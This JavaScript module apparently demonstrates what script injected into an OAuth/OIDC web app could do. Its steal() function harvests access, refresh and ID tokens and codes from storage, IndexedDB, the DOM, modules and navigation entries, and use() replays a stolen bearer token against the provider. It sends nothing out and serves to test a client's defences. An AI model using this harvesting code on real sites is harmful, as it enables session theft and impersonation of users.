// What a script could do that somebody else got into this page: by a hole in the app, or in a package it was built from. It has
// the same origin, so it may do what the app may. This one is harmless: it shows what it took, and sends nothing anywhere.

const JWT = /\beyJ[\w-]+\.[\w-]+\.[\w-]+/g;
const REFRESH = /\blyr_[\w-]{20,}/g;

/** Looks everywhere. Each find: the `place`, and what was there of each kind: `access`, `refresh`, `code`, `identity`. */
export async function steal() {
  const app = await import("./session.js");
  return [
    find("sessionStorage", JSON.stringify({ ...sessionStorage })),
    find("localStorage", JSON.stringify({ ...localStorage })),
    find("IndexedDB", await everyDatabase()),
    find("The page: its text, its variables, what its modules offer", await everythingHere(app)),
    find("A second worker like the app's own", JSON.stringify(await secondWorker(app))),
    find("The browser's record of how this page was opened", usedCode()),
  ];
}

/** Uses a token as any server anywhere could. What the provider answered, or why it did not. */
export async function use(access, app) {
  const { issuer } = app.view();
  const metadata = await (await fetch(`${issuer}/.well-known/openid-configuration`)).json();
  const answer = await fetch(metadata.userinfo_endpoint, { headers: { authorization: `Bearer ${access}` } }).catch(() => null);
  return answer?.ok ? answer.json() : null;
}

/** Takes no token: has the app do it. */
export async function actAsThePerson() {
  const app = await import("./session.js");
  return app.userinfo();
}

function find(place, text) {
  const unique = (pattern) => [...new Set(text.match(pattern) ?? [])];
  const [identity, access] = [true, false].map((wanted) => unique(JWT).filter((token) => isIdToken(token) === wanted));
  return { place, access, identity, refresh: unique(REFRESH), code: unique(/\blyc_[\w-]{20,}/g) };
}

/** An ID token opens nothing. It is told by the claims that tie it to a sign-in (OIDC Core §2). */
function isIdToken(token) {
  try {
    const claims = JSON.parse(atob(token.split(".")[1].replaceAll("-", "+").replaceAll("_", "/")));
    return "nonce" in claims || "at_hash" in claims;
  } catch {
    return false;
  }
}

async function everyDatabase() {
  const found = [];
  for (const { name } of await indexedDB.databases()) {
    const database = await done(indexedDB.open(name));
    for (const store of database.objectStoreNames) {
      found.push(await done(database.transaction(store).objectStore(store).getAll()));
    }
    database.close();
  }
  return JSON.stringify(found);
}

async function everythingHere(app) {
  const modules = ["./app.js", "./memory.js", "./provider.js", "./sign-in.js", "./sign-out.js", "./stores.js", "./tabs.js", "./tokens.js"];
  const offered = await Promise.all(modules.map((module) => import(module)));
  // Looked at already; and RegExp remembers what was searched last, which is what this script found before.
  const seen = new Set([localStorage, sessionStorage, RegExp]);
  const text = (value, depth) => {
    if (typeof value === "string") return value;
    if (value === null || !["object", "function"].includes(typeof value) || seen.has(value) || depth > 4) return "";
    seen.add(value);
    return Object.getOwnPropertyNames(value)
      .filter((name) => name !== "prototype")
      .map((name) => {
        try {
          return text(value[name], depth + 1);
        } catch {
          return "";
        }
      })
      .join(" ");
  };
  return [document.documentElement.outerHTML, text(app.view(), 0), ...offered.map((module) => text({ ...module }, 0)), text(window, 0)].join(" ");
}

async function secondWorker(app) {
  const { openMemory } = await import("./memory.js");
  const { issuer } = app.view();
  const provider = await (await fetch(`${issuer}/.well-known/openid-configuration`)).json();
  return openMemory({ settings: { issuer }, provider }).facts();
}

function usedCode() {
  return performance.getEntriesByType("navigation").map((entry) => decodeURIComponent(entry.name)).join(" ");
}

function done(request) {
  return new Promise((resolve, reject) => {
    request.onsuccess = () => resolve(request.result);
    request.onerror = () => reject(request.error);
  });
}
